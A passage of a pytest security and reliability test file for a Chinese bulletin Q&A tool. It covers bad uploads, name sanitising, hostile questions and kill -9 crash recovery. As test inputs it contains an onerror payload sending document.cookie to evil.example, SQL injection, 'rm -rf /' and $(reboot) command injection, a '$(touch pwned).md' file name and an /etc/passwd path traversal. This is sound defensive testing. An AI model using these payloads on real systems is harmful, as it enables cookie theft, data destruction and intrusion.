"""Reliability and security: hostile files, hostile questions, kill -9 mid-index, hostile uploads, the server's surface.

Every bad file goes in both ways a bulletin can arrive — dropped into the corpus folder and indexed with
`bulletin-qa index`, and uploaded through `Assistant.add_files` (what the chat's 添加公报 calls) — and must be
refused with a sentence naming the file and the reason while every byte of the index folder stays as it was.
The crash tests kill `python -m qa.cli index` with SIGKILL at seeded random moments and check that the index
that was live still answers exactly as before, that the next run completes, and that nothing is left behind.
The numbers each test measured are printed (whatever the capture mode) and kept in its assertion messages.
"""

from __future__ import annotations

import concurrent.futures
import contextlib
import html
import http.client
import importlib.util
import io
import json
import os
import random
import re
import resource
import shutil
import signal
import socket
import subprocess
import sys
import time
import tracemalloc
import urllib.parse
import uuid
from collections import Counter
from pathlib import Path
from types import SimpleNamespace

import pytest

ROOT = Path(__file__).resolve().parents[1]
if str(ROOT) not in sys.path:
    sys.path.insert(0, str(ROOT))

from qa import cli
from qa.assistant import Assistant
from qa.guard import check_figures
from qa.messages import UNKNOWN_REFUSAL, refusal_zh
from qa.embed import HashEmbedder
from qa.read import MAX_FILE_BYTES, read_bulletin_file
from qa.generations import CURRENT_FILE
from qa.store import BulletinIndex
from qa.update import update_index
from qa.upload import MAX_UPLOAD_FILES, sanitise_name
from app_process import start_app, stop, wait_up
from data_files import copy_gov_reports

SEED = ROOT / "corpus" / "shangjie-xinxi-2026-08.md"
FORMATS = ROOT / "tests" / "data" / "formats"
BASE_REPORT = "gov-work-report-2024.md"  # the one bulletin already indexed when a bad file arrives
MB = 1024 * 1024


def _load_make_files():
    """tests/data/formats/make_files.py as a module (for the Big5 text it encodes), without running it."""
    spec = importlib.util.spec_from_file_location("make_files", FORMATS / "make_files.py")
    module = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(module)
    return module


TRADITIONAL = _load_make_files().TRADITIONAL


# ----- helpers -----
def snapshot(folder: Path) -> dict[str, bytes]:
    """Every file below folder with its bytes (the index folder's complete state)."""
    return {str(p.relative_to(folder)): p.read_bytes() for p in sorted(folder.rglob("*")) if p.is_file()}


def tree(folder: Path, skip: tuple[Path, ...] = ()) -> dict[str, int]:
    """Every path below folder (files with their size, folders as -1), leaving out the `skip` folders."""
    found = {}
    for path in folder.rglob("*"):
        if any(path == s or s in path.parents for s in skip):
            continue
        found[str(path.relative_to(folder))] = path.stat().st_size if path.is_file() else -1
    return found


def show(request, text: str) -> None:
    """Print a measured result even when pytest captures output, and keep it with the test's properties."""
    request.node.user_properties.append(("result", text))
    capture = request.config.pluginmanager.getplugin("capturemanager")
    with capture.global_and_fixture_disabled() if capture else contextlib.nullcontext():
        print(f"\n{text}", flush=True)


def run_cli(*args: str) -> tuple[int, str, str]:
    """`bulletin-qa ARGS` in this process: (exit code, stdout, stderr)."""
    out, err = io.StringIO(), io.StringIO()
    with contextlib.redirect_stdout(out), contextlib.redirect_stderr(err):
        code = cli.main(list(args))
    return code, out.getvalue(), err.getvalue()


def no_mojibake(text: str) -> None:
    """Decoded Chinese text carries no replacement characters and no Latin-1 debris of a wrong decoding."""
    assert "\ufffd" not in text
    assert not re.search(r"[\u00c0-\u00ff][\u0080-\u00bf]|[ÃÂåæçäéè][\u0080-\u00ff]", text), "mojibake"


@pytest.fixture(scope="module")
def reports(tmp_path_factory) -> dict[str, Path]:
    """Every 政府工作报告 as a bulletin file, by year (written once into a staging folder)."""
    staging = tmp_path_factory.mktemp("gov-reports")
    return {path.stem.rsplit("-", 1)[1]: path for path in copy_gov_reports(staging)}


@pytest.fixture(scope="module")
def base_state(tmp_path_factory, reports) -> Path:
    """A corpus holding one real report and its index, built once; tests work on copies."""
    root = tmp_path_factory.mktemp("base")
    (root / "corpus").mkdir()
    shutil.copy(reports["2024"], root / "corpus" / BASE_REPORT)
    update_index(root / "corpus", root / "index", HashEmbedder(), progress=False)
    return root


@pytest.fixture
def state(base_state, tmp_path) -> SimpleNamespace:
    """A private copy of the base corpus and index, plus a folder for files that arrive from outside."""
    shutil.copytree(base_state / "corpus", tmp_path / "corpus")
    shutil.copytree(base_state / "index", tmp_path / "index")
    (tmp_path / "incoming").mkdir()
    return SimpleNamespace(root=tmp_path, corpus=tmp_path / "corpus", index=tmp_path / "index",
                           incoming=tmp_path / "incoming")


# ----- the bad and odd files -----
def _format_file(name: str):
    return lambda folder, reports: shutil.copy(FORMATS / name, folder / name)


def _sparse_200mb(folder: Path, reports) -> Path:
    path = folder / "huge-bulletin.txt"
    with open(path, "wb"):
        pass
    os.truncate(path, 200 * MB)  # `truncate -s 200M`: a sparse file, nothing is written
    return path


def _copy_of_base(folder: Path, reports) -> Path:
    # sorts before gov-work-report-2024.md: the copy must be refused, not the indexed original
    return Path(shutil.copy(reports["2024"], folder / "a-copy-of-the-2024-report.md"))


def _base_reencoded(folder: Path, reports) -> Path:
    path = folder / "2024-report-gb18030.txt"
    path.write_bytes(reports["2024"].read_text(encoding="utf-8").encode("gb18030"))
    return path


REFUSED = {  # case → (make the file, what the reason must say)
    "empty": (_format_file("empty.txt"), r"the file is empty \(0 bytes\)"),
    "whitespace-only": (_format_file("whitespace.txt"), r"only whitespace"),
    "binary-renamed-txt": (_format_file("binary.txt"), r"does not look like text \(it contains binary data"),
    "200MB-text": (_sparse_200mb, r"too large \(200 MB; the limit is 20 MB\)"),
    "truncated-pdf": (_format_file("truncated.pdf"), r"PDF file is incomplete"),
    "encrypted-pdf": (_format_file("encrypted.pdf"), r"password-protected \(encrypted\)"),
    "pdf-without-text-layer": (_format_file("scanned.pdf"), r"no text layer .*OCR"),
    "docx-zip-bomb": (_format_file("zip-bomb.docx"), r"zip bomb"),
    "docx-not-a-zip": (_format_file("not-a-zip.docx"), r"not a valid \.docx file \(it is not a zip archive"),
    "docx-zip-without-word": (_format_file("not-word.docx"), r"not a Word document"),
    "same-issue-other-name": (_copy_of_base, rf"same text as {re.escape(BASE_REPORT)}"),
    "same-issue-reencoded": (_base_reencoded, rf"same text as {re.escape(BASE_REPORT)}"),
}


# case → what the chat says instead (from the refusal's code, `qa.messages.REFUSALS`): Chinese, no English word.
REFUSED_ZH = {
    "empty": "文件是空的（0 字节）",
    "whitespace-only": "文件里只有空白，没有文字",
    "binary-renamed-txt": "文件看起来不是文本（含有二进制数据）",
    "200MB-text": "文件太大（200 MB，上限 20 MB）",
    "truncated-pdf": "PDF 文件不完整",
    "encrypted-pdf": "PDF 有密码保护",
    "pdf-without-text-layer": "PDF 没有文字层",
    "docx-zip-bomb": "压缩炸弹",
    "docx-not-a-zip": "这不是有效的 .docx 文件",
    "docx-zip-without-word": "不是 Word 文档",
    "same-issue-other-name": f"与已收录的「{BASE_REPORT}」内容相同，不重复添加",
    "same-issue-reencoded": f"与已收录的「{BASE_REPORT}」内容相同，不重复添加",
}


def make(case_maker, folder: Path, reports) -> Path:
    made = case_maker(folder, reports)
    return Path(made)


@pytest.mark.parametrize("case", list(REFUSED))
def test_bad_file_dropped_into_the_corpus_is_refused_and_the_index_kept(case, state, reports, request):
    maker, reason = REFUSED[case]
    path = make(maker, state.corpus, reports)
    before = snapshot(state.index)
    rss_before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
    tracemalloc.start()
    started = time.perf_counter()
    try:
        code, out, err = run_cli("index", str(state.corpus), "--index", str(state.index), "--model", "fake-hash")
    finally:
        seconds = time.perf_counter() - started
        peak = tracemalloc.get_traced_memory()[1]
        tracemalloc.stop()
    grown = (resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - rss_before) * 1024
    assert code == 1, (out, err)
    line = next((ln for ln in err.splitlines() if ln.startswith(f"error: {path.name}: ")), None)
    assert line and re.search(reason, line), err
    assert "Traceback" not in err
    assert snapshot(state.index) == before, "the index folder changed"
    assert peak < 50 * MB and grown < 50 * MB, f"{case}: peak {peak / MB:.1f} MB traced, RSS grew {grown / MB:.1f} MB"
    if case == "200MB-text":
        assert path.stat().st_blocks * 512 < MB, "the test file should be sparse"
        assert seconds < 5, f"refusing a 200 MB file took {seconds:.1f} s"
        show(request, f"200 MB file dropped into the corpus: refused by `bulletin-qa index` in {seconds:.2f} s, "
                      f"peak {peak / MB:.2f} MB traced, RSS grew {grown / MB:.1f} MB")


@pytest.mark.parametrize("case", list(REFUSED))
def test_bad_upload_is_refused_and_nothing_reaches_corpus_or_index(case, state, reports, request):
    from qa import ui

    maker, reason = REFUSED[case]
    path = make(maker, state.incoming, reports)
    assistant = Assistant.open(state.index, model="fake-hash", corpus_dir=state.corpus, progress=False)
    live = assistant.index
    index_before, corpus_before = snapshot(state.index), tree(state.corpus)
    rss_before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
    tracemalloc.start()
    started = time.perf_counter()
    try:
        report = assistant.add_files([path], progress=False)
    finally:
        seconds = time.perf_counter() - started
        peak = tracemalloc.get_traced_memory()[1]
        tracemalloc.stop()
    grown = (resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - rss_before) * 1024
    assert list(report.files_refused) == [path.name]
    assert re.search(reason, report.files_refused[path.name]), report.files_refused
    assert not report.files_added and not report.saved_as
    message = ui.upload_message(assistant, report)  # what the chat shows
    assert f"未添加「{ui.esc(path.name)}」：" in message and "索引保持不变" in message
    assert ui.esc(REFUSED_ZH[case]) in message, message
    shown = html.unescape(message).split("」：", 1)[1].split("</span>")[0]
    assert shown == refusal_zh(report.refusals[path.name]) != UNKNOWN_REFUSAL  # its own sentence, not the generic one
    assert snapshot(state.index) == index_before, "the index folder changed"
    assert tree(state.corpus) == corpus_before, "something reached the corpus folder"
    assert assistant.index is live
    assert peak < 50 * MB and grown < 50 * MB, f"{case}: peak {peak / MB:.1f} MB traced, RSS grew {grown / MB:.1f} MB"
    if case == "200MB-text":
        show(request, f"200 MB file uploaded: refused by Assistant.add_files in {seconds:.3f} s, "
                      f"peak {peak / MB:.3f} MB traced, RSS grew {grown / MB:.1f} MB")


# ----- odd but good files: ingested, decoded right, script-free -----
def utf8_reference() -> str:
    from qa.parse import parse_bulletin

    return parse_bulletin(read_bulletin_file(FORMATS / "utf8.md"), "utf8.md").clean_text


def _check_same_text_as_utf8(index: BulletinIndex, name: str) -> None:
    text = index.bulletins[name].clean_text
    no_mojibake(text)
    assert text.startswith(utf8_reference()[:2000]) and "全区持证人数达 434 人" in text


def _check_gb18030(index: BulletinIndex, name: str) -> None:
    _check_same_text_as_utf8(index, name)
    assert "“𠮷”为 GB18030 四字节字符" in index.bulletins[name].clean_text


def _check_big5(index: BulletinIndex, name: str) -> None:
    text = index.bulletins[name].clean_text
    no_mojibake(text)
    for block in TRADITIONAL.split("\n\n")[4:]:
        assert block.strip().lstrip("# ") in text
    assert any("全區持證人數達 434 人" in chunk.text for chunk in index.chunks if chunk.file == name)


def _check_crlf(index: BulletinIndex, name: str) -> None:
    reference = update_index_of(FORMATS / "utf8.md")
    fields = ("text", "start", "end", "section", "item", "paragraph", "kind", "embed_text")
    mine = [tuple(getattr(c, f) for f in fields) for c in index.chunks if c.file == name]
    assert mine == [tuple(getattr(c, f) for f in fields) for c in reference.chunks]
    assert "\r" not in index.bulletins[name].clean_text


def _check_html(index: BulletinIndex, name: str) -> None:
    text = index.bulletins[name].clean_text
    assert "全区持证人数达 434 人" in text
    for hidden in ("SCRIPT-CONTENT", "alert(1)", "document.write", "NOSCRIPT-CONTENT"):
        assert hidden not in text


def _masthead_missing(folder: Path, reports) -> Path:
    text = SEED.read_text(encoding="utf-8")
    path = folder / "no-masthead.md"
    path.write_text(text.replace("# 上街信息\n\n第 8 期\n\n中共上街区委办公室\n\n2026 年 2 月 12 日\n\n", ""),
                    encoding="utf-8")
    return path


def _masthead_malformed(folder: Path, reports) -> Path:
    text = SEED.read_text(encoding="utf-8")
    path = folder / "bad-masthead.md"
    path.write_text(text.replace("第 8 期", "第 期").replace("2026 年 2 月 12 日", "2026 年 13 月 45 日"),
                    encoding="utf-8")
    return path


def _check_masthead(index: BulletinIndex, name: str) -> None:
    bulletin = index.bulletins[name]
    assert bulletin.issue is None and bulletin.date is None  # never an invented issue or an impossible date
    assert "全区持证人数达 434 人" in bulletin.clean_text


INGESTED = {  # case → (make the file, check the index, a warning naming the file is expected)
    "gbk-text": (_format_file("gbk.txt"), _check_same_text_as_utf8, False),
    "gb18030-text": (_format_file("gb18030.txt"), _check_gb18030, False),
    "big5-text": (_format_file("big5.txt"), _check_big5, True),
    "gbk-html": (_format_file("gbk.htm"), _check_html, False),
    "mixed-line-endings": (_format_file("crlf.txt"), _check_crlf, False),
    "html-with-script": (_format_file("bulletin.html"), _check_html, False),
    "masthead-missing": (_masthead_missing, _check_masthead, True),
    "masthead-malformed": (_masthead_malformed, _check_masthead, True),
}


def update_index_of(path: Path) -> BulletinIndex:
    """An index of this one file, in memory (for comparisons)."""
    from qa.chunk import chunk_bulletin
    from qa.parse import parse_bulletin
    from qa.read import content_hash

    text = read_bulletin_file(path)
    bulletin = parse_bulletin(text, path.name)
    return SimpleNamespace(chunks=chunk_bulletin(bulletin, content_hash(text)), bulletins={path.name: bulletin})


def _no_script_anywhere(index_dir: Path) -> None:
    for name, data in snapshot(index_dir).items():
        for hidden in (b"SCRIPT-CONTENT", b"alert(1)", b"document.write", b"NOSCRIPT-CONTENT"):
            assert hidden not in data, f"{hidden!r} in {name}"


@pytest.mark.parametrize("case", list(INGESTED))
def test_odd_file_dropped_into_the_corpus_is_ingested(case, state, reports):
    maker, check, warns = INGESTED[case]
    path = make(maker, state.corpus, reports)
    code, _, err = run_cli("index", str(state.corpus), "--index", str(state.index), "--model", "fake-hash")
    assert code == 0 and "Traceback" not in err, err
    warnings = [ln for ln in err.splitlines() if ln.startswith(f"warning: {path.name}: ")]
    assert bool(warnings) == warns, err
    index = BulletinIndex.load(state.index, HashEmbedder())
    assert set(index.bulletins) == {BASE_REPORT, path.name}
    check(index, path.name)
    _no_script_anywhere(state.index)


@pytest.mark.parametrize("case", list(INGESTED))
def test_odd_upload_is_ingested(case, state, reports):
    maker, check, warns = INGESTED[case]
    path = make(maker, state.incoming, reports)
    assistant = Assistant.open(state.index, model="fake-hash", corpus_dir=state.corpus, progress=False)
    report = assistant.add_files([path], progress=False)
    assert report.files_added == [path.name] and not report.files_refused, report.files_refused
    assert bool([w for w in report.warnings if w.startswith(f"{path.name}: ")]) == warns, report.warnings
    check(assistant.index, path.name)
    assert (state.corpus / path.name).read_bytes() == path.read_bytes()  # stored as uploaded
    _no_script_anywhere(state.index)


# ----- file names -----
DROPPED_NAMES = ["上街信息 第 9 期 (修订版).md", "-rf --help.md", "年报 2023 ..md", "a..b...md", "--.md"]
UPLOADED_NAMES = ["..\\..\\..\\outside-windows.md", "-rf --help.md", " 第 9 期  (修订).md", "..md",
                  ".hidden issue.md", "a/../../b.md".replace("/", "\\"), "$(touch pwned).md", "名" * 84 + ".md"]


def test_odd_names_dropped_into_the_corpus_are_indexed_under_their_own_names(state, reports):
    years = ["2019", "2021", "2022", "2023", "2025"]
    outside_before = tree(state.root, skip=(state.index,))
    for name, year in zip(DROPPED_NAMES, years):
        shutil.copy(reports[year], state.corpus / name)
    code, out, err = run_cli("index", str(state.corpus), "--index", str(state.index), "--model", "fake-hash",
                             "--json")
    assert code == 0 and "Traceback" not in err, err
    assert json.loads(out)["files_added"] == len(DROPPED_NAMES)
    index = BulletinIndex.load(state.index, HashEmbedder())
    assert set(index.bulletins) == {BASE_REPORT, *DROPPED_NAMES}
    written = set(tree(state.root, skip=(state.index,))) - set(outside_before)
    assert written == {f"corpus/{name}" for name in DROPPED_NAMES}, "indexing wrote outside the index folder"


def test_odd_upload_names_are_sanitised_and_stored_only_in_the_corpus(state, reports):
    years = ["2015", "2016", "2017", "2018", "2019", "2021", "2022", "2023"]
    paths = []
    for name, year in zip(UPLOADED_NAMES, years):
        folder = state.incoming / uuid.uuid4().hex[:6]
        folder.mkdir()
        paths.append(Path(shutil.copy(reports[year], folder / name)))
    outside_before = tree(state.root, skip=(state.index, state.corpus))
    assistant = Assistant.open(state.index, model="fake-hash", corpus_dir=state.corpus, progress=False)
    report = assistant.add_files(paths, progress=False)
    assert not report.files_refused, report.files_refused
    assert set(report.saved_as) == {p.name for p in paths}
    for original, saved in report.saved_as.items():
        stored = state.corpus / saved
        assert stored.is_file() and stored.parent == state.corpus, saved
        assert saved == sanitise_name(original) or re.fullmatch(re.escape(Path(sanitise_name(original)).stem)
                                                                  + r"-\d+\.md", saved)
        assert re.fullmatch(r"[\w\u4e00-\u9fff][\w\u4e00-\u9fff.-]*\.md", saved), saved
        assert ".." not in saved and " " not in saved and "\\" not in saved and "$" not in saved
        assert len(saved.encode("utf-8")) < 255
    assert sorted(p.name for p in state.corpus.iterdir()) == sorted([BASE_REPORT, *report.saved_as.values()])
    assert tree(state.root, skip=(state.index, state.corpus)) == outside_before, "an upload was written elsewhere"
    assert not (ROOT / "pwned").exists() and not Path("pwned").exists()
    assert set(assistant.index.bulletins) == {BASE_REPORT, *report.saved_as.values()}


# ----- upload limits, through the library -----
def test_upload_limits_are_enforced_by_the_library(state, reports):
    assistant = Assistant.open(state.index, model="fake-hash", corpus_dir=state.corpus, progress=False)
    index_before, corpus_before = snapshot(state.index), tree(state.corpus)
    years = sorted(y for y in reports if y != "2024")[: MAX_UPLOAD_FILES + 1]
    too_many = [Path(shutil.copy(reports[y], state.incoming / f"report-{y}.md")) for y in years]
    report = assistant.add_files(too_many, progress=False)
    assert len(report.files_refused) == MAX_UPLOAD_FILES + 1 and not report.saved_as
    assert all("too many files in one upload (21); add at most 20" in r for r in report.files_refused.values())
    assert {refusal_zh(r) for r in report.refusals.values()} == {"一次最多添加 20 个文件（这次选了 21 个），请分批添加。"}

    just_over = state.incoming / "just-over-the-limit.md"
    with open(just_over, "wb"):
        pass
    os.truncate(just_over, MAX_FILE_BYTES + 1)
    kinds = {"tool.exe": b"MZ\x90\x00", "run.sh": b"#!/bin/sh\nrm -rf /\n", "macro.docm": b"PK\x03\x04",
             "issue.md.exe": b"MZ", "no-extension": "全区持证人数达 434 人。".encode(), "page.svg": b"<svg/>"}
    for name, data in kinds.items():
        (state.incoming / name).write_bytes(data)
    report = assistant.add_files([just_over, *(state.incoming / n for n in kinds)], progress=False)
    assert re.search(r"too large \(20 MB; the limit is 20 MB\)", report.files_refused[just_over.name])
    for name in kinds:
        assert report.files_refused[name].startswith("unsupported file type; supported: .md, .txt, .docx"), name
        assert refusal_zh(report.refusals[name]).startswith("不支持的文件类型"), name
    assert refusal_zh(report.refusals[just_over.name]) == ("文件太大（20 MB，上限 20 MB），请把公报拆成较小的文件，"
                                                         "或去掉其中的图片。")
    assert snapshot(state.index) == index_before and tree(state.corpus) == corpus_before


# ----- hostile questions -----
HOSTILE_QUESTIONS = {
    "empty": "",
    "blank": " \t\u3000 ",
    "10000-chars": ("全区社会工作者持证人数是多少？" * 700)[:10_000],
    "punctuation-only": "？？！！。。，，、；：……——“”‘’（）《》【】?!.,;:'\"()[]{}<>",
    "english": "How many certified social workers does the district have?",
    "sql-drop": "'; DROP TABLE chunks; -- 全区持证人数是多少？",
    "sql-or": "1' OR '1'='1' UNION SELECT * FROM manifest --",
    "html-script": "<script>alert(document.cookie)</script>全区持证人数是多少？",
    "html-img": '<img src=x onerror="fetch(\'//evil.example/\'+document.cookie)">',
    "js-template": "${process.exit(1)} {{7*7}} `rm -rf /` $(reboot)",
    "path-traversal": "../../../../etc/passwd",
    "format-string": "%s%s%s%n {0.__class__.__mro__} {{}}",
    "control-chars": "\u202e\u200b全区持证\u0007人数\u0000是多少？",
    "emoji": "😀🎉" * 100,
    "500-digits": "1" * 500,
    "regex-stress": "多少" * 249 + "？",
    "leading-dash": "-1 OR 1=1 全区持证人数是多少？",
}
ARGV_UNSAFE = {"control-chars"}  # a NUL cannot travel in argv; it goes through stdin and the API


def assert_graceful(case: str, result: dict) -> None:
    """Valid answer JSON: an abstention, or a real answer whose every number is in its quotes."""
    assert set(result) >= {"question", "answer", "abstained", "citations", "figures", "related"}, case
    assert isinstance(result["abstained"], bool) and result["answer"], case
    if not result["abstained"]:
        assert result["citations"], case
        assert check_figures(result["answer"], [c["quote"] for c in result["citations"]]) == [], case


@pytest.fixture(scope="module")
def seed_assistant(tmp_path_factory):
    """The seed bulletin indexed with the fake embedder: (assistant, corpus, index)."""
    root = tmp_path_factory.mktemp("seed")
    (root / "corpus").mkdir()
    shutil.copy(SEED, root / "corpus")
    assistant = Assistant.open(root / "index", model="fake-hash", corpus_dir=root / "corpus", progress=False)
    return assistant, root / "corpus", root / "index"


def test_hostile_questions_through_the_library(seed_assistant, request):
    assistant, _, _ = seed_assistant
    slowest = 0.0
    for case, question in HOSTILE_QUESTIONS.items():
        started = time.perf_counter()
        result = assistant.ask(question).to_json()
        slowest = max(slowest, time.perf_counter() - started)
        assert_graceful(case, result)
        json.dumps(result, ensure_ascii=False)
    for case in ("empty", "blank", "10000-chars", "punctuation-only", "emoji"):
        assert assistant.ask(HOSTILE_QUESTIONS[case]).abstained, case
    assert "太长" in assistant.ask(HOSTILE_QUESTIONS["10000-chars"]).answer
    assert slowest < 2.0, f"slowest hostile question took {slowest:.2f} s"
    show(request, f"hostile questions through Assistant.ask: {len(HOSTILE_QUESTIONS)} answered or refused, "
                  f"slowest {slowest * 1000:.0f} ms")


def test_hostile_questions_through_the_cli(seed_assistant):
    assistant, corpus, index = seed_assistant
    env = {**os.environ, "PYTHONPATH": str(ROOT)}
    base = [sys.executable, "-m", "qa.cli", "ask", "--json", "--index", str(index), "--corpus", str(corpus),
            "--model", "fake-hash"]
    # Batch mode: one question per stdin line (blank lines are skipped by design, so those go as arguments).
    batch = {c: q for c, q in HOSTILE_QUESTIONS.items() if q.strip()}
    done = subprocess.run(base, input="\n".join(batch.values()) + "\n", capture_output=True, text=True,
                          encoding="utf-8", env=env, cwd=ROOT, timeout=120, check=False)
    assert done.returncode == 0 and "Traceback" not in done.stderr, done.stderr
    lines = done.stdout.splitlines()
    assert len(lines) == len(batch)
    for (case, question), line in zip(batch.items(), lines):
        result = json.loads(line)
        assert_graceful(case, result)
        assert result == assistant.ask(question).to_json(), case
    # Argument mode, one process per question that can travel in argv; `--` lets a question start with '-'.
    for case in ("empty", "blank", "10000-chars", "leading-dash"):
        done = subprocess.run([*base, "--", HOSTILE_QUESTIONS[case]], capture_output=True, text=True,
                              encoding="utf-8", env=env, cwd=ROOT, timeout=60, check=False)
        assert done.returncode == 0 and "Traceback" not in done.stderr, (case, done.stderr)
        result = json.loads(done.stdout)
        assert_graceful(case, result)
        assert result == assistant.ask(HOSTILE_QUESTIONS[case]).to_json(), case


# ----- kill -9 in the middle of `bulletin-qa index` -----
NEW_YEAR = "2016"  # the report the run adds (it reviews 2015 and sets 2016's targets)
CRASH_QUESTIONS = [
    "2009年城镇新增就业多少人？",
    "2012年国内生产总值实际增长多少？",
    "2015年城镇新增就业有多少？",
    "2016年国内生产总值增长的预期目标是多少？",
    "2013年居民消费价格涨幅是多少？",
    "全区社会工作者持证人数是多少？",
]


def answers(index_dir: Path) -> list[dict]:
    """The fixed questions answered from the index in index_dir as it is on disk now."""
    embedder = HashEmbedder()
    assistant = Assistant(BulletinIndex.load(index_dir, embedder), embedder)
    return [assistant.ask(question).to_json() for question in CRASH_QUESTIONS]


def live_generation(index_dir: Path) -> str | None:
    pointer = index_dir / CURRENT_FILE
    return pointer.read_text(encoding="utf-8").strip() if pointer.exists() else None


@pytest.fixture(scope="module")
def crash_labs(tmp_path_factory, reports):
    """Per size: a pristine index of the `size` reports before 2015, and a corpus folder that now holds one more."""
    labs = {}

    def lab(size: int) -> SimpleNamespace:
        if size not in labs:
            root = tmp_path_factory.mktemp(f"crash-{size}")
            corpus = root / "corpus"
            corpus.mkdir()
            for year in sorted(y for y in reports if y < "2015")[-size:]:
                shutil.copy(reports[year], corpus)
            update_index(corpus, root / "pristine", HashEmbedder(), progress=False)
            shutil.copy(reports[NEW_YEAR], corpus)
            old_generation = live_generation(root / "pristine")
            labs[size] = SimpleNamespace(root=root, corpus=corpus, pristine=root / "pristine", size=size,
                                         old_generation=old_generation,
                                         old_files=snapshot(root / "pristine" / old_generation),
                                         old_answers=answers(root / "pristine"))
        return labs[size]

    return lab


def phase_of(index_dir: Path, old_generation: str) -> str:
    """Where the killed run was, read from what it left behind."""
    names = os.listdir(index_dir)
    if live_generation(index_dir) != old_generation:
        return "after the CURRENT switch"
    if any(n.startswith("gen-") and n != old_generation for n in names):
        return "new generation published, CURRENT not yet switched"
    if any(n.startswith(".tmp-gen-") for n in names):
        return "writing the temp generation"
    return "reading, parsing or embedding"


def restore(lab, index_dir: Path) -> None:
    shutil.rmtree(index_dir, ignore_errors=True)
    shutil.copytree(lab.pristine, index_dir)


def wait_for_temp_generation(index_dir: Path, process: subprocess.Popen, seconds: float = 60) -> bool:
    deadline = time.monotonic() + seconds
    while time.monotonic() < deadline and process.poll() is None:
        if any(name.startswith(".tmp-gen-") for name in os.listdir(index_dir)):
            return True
        time.sleep(0.001)
    return False


def crash_runs(lab, name: str, extra: list[str], seed: int, random_kills: int, targeted_kills: int):
    """Kill the index run at seeded random moments; after each kill check the index, then finish the run.

    Two index folders take turns, so the checks after one kill (in a worker thread) overlap the next run
    on the other folder; each folder is restored to the pristine index before every run.
    """
    env = {**os.environ, "PYTHONPATH": str(ROOT)}

    def arguments(index_dir: Path, rebuild: bool) -> list[str]:
        return ["index", str(lab.corpus), "--index", str(index_dir), "--model", "fake-hash", "--json",
                *(extra if rebuild else [])]

    def start(index_dir: Path) -> subprocess.Popen:
        return subprocess.Popen([sys.executable, "-m", "qa.cli", *arguments(index_dir, True)], cwd=ROOT, env=env,
                                stdout=subprocess.DEVNULL, stderr=subprocess.PIPE)

    # One uninterrupted run: how long it takes, when it starts writing, and what the new index answers.
    folders = [lab.root / f"{name}-a", lab.root / f"{name}-b"]
    restore(lab, folders[0])
    started = time.monotonic()
    process = start(folders[0])
    assert wait_for_temp_generation(folders[0], process)
    writing_at = time.monotonic() - started
    while process.poll() is None and any(n.startswith(".tmp-gen-") for n in os.listdir(folders[0])):
        time.sleep(0.001)
    written_at = time.monotonic() - started  # the temp generation was renamed: the write is over
    _, stderr = process.communicate(timeout=120)
    duration = time.monotonic() - started
    assert process.returncode == 0, stderr.decode()
    new_answers = answers(folders[0])
    assert new_answers != lab.old_answers  # otherwise the test could not tell the two indexes apart
    new_chunks = BulletinIndex.load(folders[0]).chunks

    def check_and_finish(index_dir: Path, where: str) -> None:
        # The index that was live still loads and answers exactly as before (or, killed after the switch,
        # exactly as the finished run's) — nothing lost, nothing half-written.
        if live_generation(index_dir) == lab.old_generation:
            assert snapshot(index_dir / lab.old_generation) == lab.old_files, where
            assert answers(index_dir) == lab.old_answers, where
        else:
            assert answers(index_dir) == new_answers, where
        # The next `bulletin-qa index` completes and leaves one generation, no temp folders. (After a killed
        # --rebuild the next run is the ordinary one; the uninterrupted --rebuild above showed that one completes.)
        code, _, err = run_cli(*arguments(index_dir, False))
        assert code == 0 and "Traceback" not in err, (where, err)
        names = sorted(os.listdir(index_dir))
        generations = [n for n in names if n.startswith("gen-")]
        assert not [n for n in names if n.startswith(".tmp-")], (where, names)
        assert generations == [live_generation(index_dir)], (where, names)
        # the same chunks, row for row (a killed --rebuild is finished by adding the new report as a segment)
        assert BulletinIndex.load(index_dir).chunks == new_chunks, where

    rng = random.Random(seed)
    phases: Counter = Counter()
    checks: dict[Path, concurrent.futures.Future] = {}
    killed, attempts = 0, 0
    with concurrent.futures.ThreadPoolExecutor(max_workers=1) as checker:
        while killed < random_kills + targeted_kills:
            attempts += 1
            assert attempts <= 3 * (random_kills + targeted_kills), f"could not land enough kills: {dict(phases)}"
            index_dir = folders[attempts % 2]
            if index_dir in checks:
                checks.pop(index_dir).result()  # its last kill is checked and finished before it is reused
            restore(lab, index_dir)
            process = start(index_dir)
            if killed >= random_kills:  # inside the write: after the temp generation appears, before the end
                if not wait_for_temp_generation(index_dir, process):
                    process.wait(timeout=60)
                    continue
                # Aim at the write itself, not at the exit after it (the write takes a fraction of the run)
                time.sleep(rng.uniform(0, max(written_at - writing_at, 0.01)))
            else:
                time.sleep(rng.uniform(0.05, duration * 0.95))
            if process.poll() is not None:  # finished before the kill: not a crash
                process.wait()
                continue
            os.kill(process.pid, signal.SIGKILL)
            process.wait(timeout=30)
            if process.returncode == 0:  # it exited between poll() and the kill: not a crash either
                continue
            assert process.returncode == -signal.SIGKILL, process.stderr.read().decode()
            killed += 1
            phase = phase_of(index_dir, lab.old_generation)
            phases[phase] += 1
            checks[index_dir] = checker.submit(check_and_finish, index_dir, f"kill {killed} ({phase})")
        for check in checks.values():
            check.result()
    last = folders[attempts % 2]
    assert answers(last) == new_answers  # the last finished run's index answers like the uninterrupted one
    return SimpleNamespace(survived=killed, phases=phases, duration=duration, writing_at=writing_at,
                           attempts=attempts)


CRASH_RUNS = [  # (scenario, reports in the live index, kills at random moments, kills inside the write)
    pytest.param("full-rebuild", 10, 8, 2, id="full-rebuild-10-reports"),
    pytest.param("incremental-add", 10, 8, 2, id="incremental-add-10-reports"),
    pytest.param("full-rebuild", 20, 25, 5, id="full-rebuild-20-reports", marks=pytest.mark.slow),
    pytest.param("incremental-add", 20, 25, 5, id="incremental-add-20-reports", marks=pytest.mark.slow),
]


@pytest.mark.parametrize(("scenario", "size", "random_kills", "targeted_kills"), CRASH_RUNS)
def test_kill_9_during_index_loses_nothing(scenario, size, random_kills, targeted_kills, crash_labs, request):
    extra = ["--rebuild"] if scenario == "full-rebuild" else []
    result = crash_runs(crash_labs(size), f"{scenario}-{size}", extra, seed=size * 100 + len(extra),
                        random_kills=random_kills, targeted_kills=targeted_kills)
    summary = (f"kill -9 during `bulletin-qa index` ({scenario}, {size}→{size + 1} reports, "
